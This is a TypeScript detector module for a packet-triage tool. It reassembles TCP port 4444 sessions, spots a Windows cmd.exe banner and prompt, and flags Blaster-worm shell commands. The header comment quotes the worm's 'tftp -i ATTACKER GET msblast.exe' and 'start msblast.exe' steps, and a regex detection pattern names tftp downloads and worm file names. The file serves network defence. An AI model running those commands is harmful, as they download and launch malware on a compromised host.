/**
 * Shells on TCP/4444: the exploited host's cmd.exe answers the attacker's connection with its banner
 * (`Microsoft Windows … (C) Copyright …` then a prompt such as `C:\WINNT\system32>`), and the attacker
 * types `tftp -i ATTACKER GET msblast.exe` and `start msblast.exe`. No public sid covers it
 * (blaster.md §7). Commands are reported only on connections that showed the banner.
 */
import { type StreamSink, type TcpConnection, TcpReassembler } from '../../capture/index.ts';
import { type AlertSink, type Detector, makeAlert } from '../detector.ts';
import type { TriagePacket } from '../packet-view.ts';

/** Bytes of the server's first output kept to find the banner and prompt. */
const BANNER_BYTES = 2048;
const MAX_LINE = 200;
const MAX_COMMANDS_PER_CONNECTION = 64;
const BANNER = /Microsoft Windows[^\r\n]{0,80}/;
const PROMPT = /[A-Za-z]:\\[^\r\n<>|]{0,100}>/;
const WORM_COMMAND =
  /\b(tftp\s+-i\b.*\bget\b|start\s+\S+\.exe|msblast|penis32|teekids|mspatch|mslaugh|enbiei)/i;

const latin1 = new TextDecoder('latin1');
/** Printable text only: a command line is shown, control bytes are not. */
const printable = (s: string): string => s.replace(/[^\x20-\x7e]/g, '.').slice(0, MAX_LINE);

class ShellConnection implements StreamSink {
  #banner = '';
  #shell = false;
  #line = '';
  #commands = 0;

  constructor(
    readonly info: TcpConnection,
    readonly detector: ShellDetector,
  ) {}

  data(from: 'client' | 'server', bytes: Uint8Array, frame: number): void {
    if (from === 'server') this.#serverOutput(bytes, frame);
    else if (this.#shell) this.#typed(bytes, frame);
  }

  #serverOutput(bytes: Uint8Array, frame: number): void {
    if (this.#shell || this.#banner.length >= BANNER_BYTES) return;
    this.#banner += latin1.decode(bytes.subarray(0, BANNER_BYTES - this.#banner.length));
    const banner = BANNER.exec(this.#banner);
    const prompt = PROMPT.exec(this.#banner);
    if (!banner || !prompt) return;
    this.#shell = true;
    const { client, server } = this.info;
    this.detector.report('shell-4444', frame, {
      severity: 1,
      src: server.address,
      sport: server.port,
      dst: client.address,
      dport: client.port,
      evidence: {
        banner: printable(banner[0].trim()),
        prompt: printable(prompt[0]),
        shell_host: server.address,
      },
    });
  }

  #typed(bytes: Uint8Array, frame: number): void {
    for (const ch of latin1.decode(bytes)) {
      if (ch !== '\n' && ch !== '\r') {
        if (this.#line.length < MAX_LINE * 2) this.#line += ch;
        continue;
      }
      const command = printable(this.#line.trim());
      this.#line = '';
      if (!command || this.#commands >= MAX_COMMANDS_PER_CONNECTION) continue;
      this.#commands++;
      const { client, server } = this.info;
      const worm = WORM_COMMAND.test(command);
      this.detector.report('shell-command', frame, {
        severity: worm ? 1 : 2,
        qualifier: worm ? 'worm download or start' : undefined,
        src: client.address,
        sport: client.port,
        dst: server.address,
        dport: server.port,
        evidence: { command, worm_related: worm, shell_host: server.address },
      });
    }
  }

  gap(): void {}
  end(): void {}
}

export class ShellDetector implements Detector {
  readonly name = 'shell-4444';
  readonly #reassembler: TcpReassembler;
  #timeNs = 0n;

  constructor(readonly emit: AlertSink) {
    // A shell session is small: little out-of-order buffering, a modest table.
    this.#reassembler = new TcpReassembler((info) => new ShellConnection(info, this), {
      maxOutOfOrderBytes: 64 * 1024,
      maxConnections: 4096,
    });
  }

  packet(p: TriagePacket): void {
    const t = p.tcp;
    if (!t || (t.dstPort !== 4444 && t.srcPort !== 4444)) return;
    this.#timeNs = p.timeNs;
    this.#reassembler.push(t, p.frame);
  }

  report(
    kind: 'shell-4444' | 'shell-command',
    frame: number,
    f: {
      severity: 1 | 2;
      qualifier?: string | undefined;
      src: string;
      sport: number;
      dst: string;
      dport: number;
      evidence: Record<string, unknown>;
    },
  ): void {
    const { qualifier, ...rest } = f;
    this.emit(
      makeAlert(kind, {
        ...rest,
        ...(qualifier ? { qualifier } : {}),
        timeNs: this.#timeNs,
        frame,
        proto: 'TCP',
      }),
    );
  }

  expire(): void {}

  finish(): void {
    this.#reassembler.finish();
  }
}
